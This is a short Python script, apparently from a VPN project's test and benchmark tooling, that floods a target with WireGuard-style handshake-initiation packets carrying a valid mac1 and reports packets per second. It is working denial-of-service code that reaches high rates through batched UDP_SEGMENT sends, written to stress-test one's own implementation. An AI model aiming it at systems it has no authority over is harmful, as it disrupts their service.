#!/usr/bin/env python3
"""A valid-mac1 handshake-initiation flood, bounded in time, for attack tests and
`scripts/bench --attack`. mac1 needs nothing but the target's public key, so
every message passes the first check; the rest is random.

    flood.py DST_IP DST_PORT PUBKEY_B64 SECONDS [--gso]

--gso sends 64 datagrams per system call (UDP_SEGMENT), the rate a C flooder
reaches. Prints the number of datagrams sent and the rate as JSON.
"""

import base64
import hashlib
import json
import os
import socket
import sys
import time

SOL_UDP, UDP_SEGMENT = 17, 103
SIZE, BATCH = 148, 64


def initiations(public: bytes, count: int) -> list[bytes]:
    key = hashlib.blake2s(b"mac1----" + public).digest()
    out = []
    for _ in range(count):
        body = b"\x01\x00\x00\x00" + os.urandom(112)
        out.append(body + hashlib.blake2s(body, key=key, digest_size=16).digest() + bytes(16))
    return out


def main() -> None:
    ip, port, pub, seconds = sys.argv[1], int(sys.argv[2]), base64.b64decode(sys.argv[3]), float(sys.argv[4])
    gso = "--gso" in sys.argv
    pool = initiations(pub, 1024)
    batches = [b"".join(pool[i:i + BATCH]) for i in range(0, len(pool), BATCH)]
    s = socket.socket(socket.AF_INET6 if ":" in ip else socket.AF_INET, socket.SOCK_DGRAM)
    dst = (ip, port)
    sent = errors = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for i in range(64):
            try:
                if gso:
                    s.sendmsg([batches[i % len(batches)]], [(SOL_UDP, UDP_SEGMENT, SIZE.to_bytes(2, "little"))], 0, dst)
                    sent += BATCH
                else:
                    s.sendto(pool[i], dst)
                    sent += 1
            except OSError:
                errors += 1
    print(json.dumps({"sent": sent, "errors": errors, "pps": round(sent / seconds)}), flush=True)


if __name__ == "__main__":
    main()
